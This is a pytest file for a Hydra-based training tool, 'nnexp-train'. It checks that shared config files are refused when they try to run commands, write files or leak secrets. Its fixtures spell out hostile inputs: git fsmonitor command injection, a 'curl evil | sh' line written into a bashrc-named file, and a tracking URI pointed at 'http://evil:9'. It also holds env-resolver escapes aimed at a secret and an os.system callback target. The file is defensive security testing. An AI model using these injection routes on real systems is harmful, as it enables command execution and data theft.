"""A config file from a colleague or a paper's repository is untrusted data: the hydra keys it may
set are an allow-list, its resolvers too, and git for provenance runs in an environment no config
reaches. Each route of issue 25 runs through the real ``nnexp-train`` in a new process (what the
process imports is a subject: every refusal comes before MLflow is imported), all routes in one,
one after another; a file written, a command run and the exit status are the others."""

from __future__ import annotations

from pathlib import Path
from subprocess import CompletedProcess

import pytest
import yaml
from omegaconf import OmegaConf

import in_process
from conftest import assert_one_line_error, clean_env
from nnexp.config.safe import (
    ALLOWED_HYDRA_KEYS,
    check_loaded,
    check_overrides,
    reference,
)
from nnexp.errors import UserError

SECRET = "hunter2-secret"


@pytest.fixture(scope="module", autouse=True)
def _schemas() -> None:
    """nnexp's schemas in Hydra's ConfigStore, as ``nnexp-train`` puts them before composing."""
    from nnexp.config import schema as config

    config.register_schemas()


def shared_dir(tmp_path: Path, files: dict[str, object]) -> Path:
    """A --config-dir holding ``files`` (relative path → YAML body, or text as is)."""
    folder = tmp_path / "shared"
    for name, body in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(body if isinstance(body, str) else yaml.safe_dump(body))
    return folder


def experiment(body: dict) -> str:
    return "# @package _global_\n" + yaml.safe_dump(body)


def git_env(**variables: str) -> dict:
    return {"hydra": {"job": {"env_set": variables}}}


def routes(tmp_path: Path) -> dict[str, tuple[list[str], str]]:
    """Name → (nnexp-train arguments, a fragment of the refusal) for each route of issue 25."""
    home = tmp_path / "home"
    home.mkdir()
    (home / ".gitconfig").write_text('[core]\n\tfsmonitor = "id > pwned; false"\n')
    target = tmp_path / "bashrc"
    handler = {
        "class": "logging.FileHandler",
        "filename": str(target),
        "formatter": "evil",
    }
    logging = {
        "version": 1,
        "formatters": {"evil": {"format": "curl evil | sh"}},
        "handlers": {"file": handler},
        "root": {"handlers": ["file"], "level": "INFO"},
    }
    fsmonitor = git_env(
        GIT_CONFIG_COUNT="1",
        GIT_CONFIG_KEY_0="core.fsmonitor",
        GIT_CONFIG_VALUE_0="id > pwned; false",
    )
    files = {
        "experiment/fsmonitor.yaml": experiment(fsmonitor),
        "experiment/home.yaml": experiment(git_env(HOME=str(home))),
        "experiment/logging.yaml": experiment({"hydra": {"hydra_logging": logging}}),
        "experiment/escaped.yaml": experiment(
            {"tracking": {"experiment": "x\\\\${oc.env:NNEXP_TEST_SECRET}"}}
        ),
        "experiment/defaults.yaml": "# @package _global_\n"
        "defaults:\n  - override /hydra/job_logging: evil\n",
        "hydra/job_logging/evil.yaml": yaml.safe_dump(logging),
        "evil/job.yaml": "# @package hydra.job\n"
        + yaml.safe_dump({"chdir": True, "env_set": {"A": "1"}}),
        "primary.yaml": yaml.safe_dump(
            {"defaults": ["config", "_self_"], **git_env(MLFLOW_TRACKING_URI="http://evil:9")}
        ),
    }
    shared = ["--config-dir", str(shared_dir(tmp_path, files))]
    return {
        "env_set GIT_CONFIG_COUNT (experiment)": (
            [*shared, "+experiment=fsmonitor"],
            "hydra.job.env_set",
        ),
        "env_set HOME with a .gitconfig (experiment)": (
            [*shared, "+experiment=home"],
            "hydra.job.env_set.HOME",
        ),
        "env_set MLFLOW_TRACKING_URI (--config-name)": (
            [*shared, "--config-name", "primary"],
            "hydra.job.env_set.MLFLOW_TRACKING_URI",
        ),
        "hydra_logging FileHandler (experiment)": (
            [*shared, "+experiment=logging"],
            "hydra.hydra_logging",
        ),
        "escaped oc.env (experiment)": ([*shared, "+experiment=escaped"], "oc.env"),
        "job_logging by a defaults entry": ([*shared, "+experiment=defaults"], "hydra/job_logging"),
        "package directive into hydra.job": ([*shared, "+evil=job"], "hydra.job.env_set"),
        "searchpath on the command line": (
            [f"+hydra.searchpath=[file://{tmp_path}]"],
            "hydra.searchpath",
        ),
    }


ROUTES = [
    "env_set GIT_CONFIG_COUNT (experiment)",
    "env_set HOME with a .gitconfig (experiment)",
    "env_set MLFLOW_TRACKING_URI (--config-name)",
    "hydra_logging FileHandler (experiment)",
    "escaped oc.env (experiment)",
    "job_logging by a defaults entry",
    "package directive into hydra.job",
    "searchpath on the command line",
]


@pytest.fixture(scope="module")
def refusals(tmp_path_factory) -> dict[str, tuple[Path, str, CompletedProcess, bool]]:
    """Route → (its folder, the refusal's fragment, what ``nnexp-train`` gave, whether mlflow was
    imported by then): every route in a folder of its own, run one after another in one new
    process (``in_process.run_in_a_new_process``)."""
    runs, folders, fragments = [], {}, {}
    env = clean_env(NNEXP_TEST_SECRET=SECRET)
    for route in ROUTES:
        folder = folders[route] = tmp_path_factory.mktemp("route")
        args, fragments[route] = routes(folder)[route]
        (folder / "work").mkdir()
        args = [*args, "optim.epochs=1", "tracking.log_model=false"]
        runs.append(("nnexp-train", args, folder / "work", env))
    results = in_process.run_in_a_new_process(runs)
    return {
        route: (folders[route], fragments[route], *result)
        for route, result in zip(ROUTES, results, strict=True)
    }


@pytest.mark.parametrize("route", ROUTES)
def test_a_shared_config_runs_nothing_and_writes_nothing(refusals, route):
    tmp_path, fragment, done, mlflow_loaded = refusals[route]
    work = tmp_path / "work"
    line = assert_one_line_error(done, "configs are data", fragment)
    assert not mlflow_loaded, "a refusal must come before MLflow"
    assert not (work / "pwned").exists() and not (tmp_path / "pwned").exists()
    assert not (tmp_path / "bashrc").exists(), "the FileHandler wrote its file"
    assert SECRET not in done.stdout + done.stderr
    assert list(work.iterdir()) == [], line


def test_git_runs_in_a_fixed_environment_whatever_the_process_has(tmp_path, monkeypatch):
    """Even with the job's variables in the environment, git runs with nnexp's own."""
    from nnexp.provenance import source as provenance

    home = tmp_path / "home"
    home.mkdir()
    pwned = tmp_path / "pwned"
    (home / ".gitconfig").write_text(f'[core]\n\tfsmonitor = "touch {pwned}; false"\n')
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
    monkeypatch.setenv("GIT_CONFIG_KEY_0", "core.fsmonitor")
    monkeypatch.setenv("GIT_CONFIG_VALUE_0", f"touch {pwned}; false")
    monkeypatch.setenv("GIT_DIR", str(tmp_path))
    provenance.code_version.cache_clear()
    try:
        version = provenance.code_version()
    finally:
        provenance.code_version.cache_clear()
    assert not pwned.exists()
    assert len(version.commit) == 40, version
    assert set(provenance.GIT_ENV) == {
        "PATH", "HOME", "GIT_CONFIG_NOSYSTEM", "GIT_CONFIG_GLOBAL", "GIT_TERMINAL_PROMPT",
        "GIT_OPTIONAL_LOCKS", "LC_ALL",
    }  # fmt: skip


@pytest.mark.parametrize(
    "override",
    [
        "hydra.job.env_set.GIT_DIR=/tmp",
        "+hydra.job.env_set.GIT_DIR=/tmp",
        "hydra.output_subdir=null",
        "hydra/hydra_logging=none",
        "+hydra/callbacks=x",
        "hydra.callbacks.mlflow_sweep._target_=os.system",
        "hydra.job_logging.root.level=DEBUG",
        "+evil@hydra.job=x",
        "tracking.experiment=\\\\${oc.env:HOME}",
        "tracking.experiment=\\${oc.env:HOME}",
        "tracking.experiment=${${x}:HOME}",
    ],
)
def test_overrides_outside_the_allow_list_are_refused(override):
    with pytest.raises(UserError, match="configs are data"):
        check_overrides([override])


@pytest.mark.parametrize(
    "override",
    [
        "hydra.run.dir=out/${now:%H}",
        "hydra.sweep.dir=multirun/x",
        "hydra.sweep.subdir=${hydra.job.override_dirname}",
        "hydra.job.name=mine",
        "hydra.job.chdir=true",
        "hydra.verbose=true",
        "hydra/launcher=joblib",
        "hydra.launcher.n_jobs=2",
        "hydra/sweeper=optuna",
        "hydra.sweeper.n_trials=3",
        "+hydra.sweeper.params.optim.lr=1,2",
        "hydra.mode=MULTIRUN",
        "tracking.experiment=${hydra:job.name}",
    ],
)
def test_overrides_a_user_needs_pass(override):
    check_overrides([override])


@pytest.mark.parametrize(
    ("launcher", "sweeper"),
    [("basic", "nnexp"), ("joblib", "nnexp"), ("slurm", "basic"), ("basic", "optuna")],
)
def test_nnexps_own_compositions_pass_their_own_check(launcher, sweeper):
    cfg = reference(launcher, sweeper)
    check_loaded(cfg, [f"hydra/launcher={launcher}", f"hydra/sweeper={sweeper}"])


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("hydra.job.env_set.GIT_CONFIG_COUNT", "1"),
        ("hydra.job.env_copy", ["HOME"]),
        ("hydra.output_subdir", None),
        ("hydra.searchpath", ["file:///tmp"]),
        ("hydra.help.template", "x"),
        ("hydra.job_logging.handlers.file.filename", "/tmp/x"),
        ("hydra.callbacks.mlflow_sweep", None),
    ],
)
def test_any_other_hydra_key_differing_from_nnexps_is_refused(key, value):
    own = reference("basic", "nnexp")
    cfg = OmegaConf.create(OmegaConf.to_container(own, resolve=False))
    OmegaConf.update(cfg, key, value, force_add=True, merge=False)
    with pytest.raises(UserError, match=key.split(".")[1]):
        check_loaded(cfg, [])
    for allowed in ALLOWED_HYDRA_KEYS:
        changed = OmegaConf.create(OmegaConf.to_container(own, resolve=False))
        OmegaConf.update(
            changed,
            f"{allowed}.x" if allowed in ("hydra.sweeper", "hydra.launcher") else allowed,
            "v",
            force_add=True,
        )
        check_loaded(changed, [])
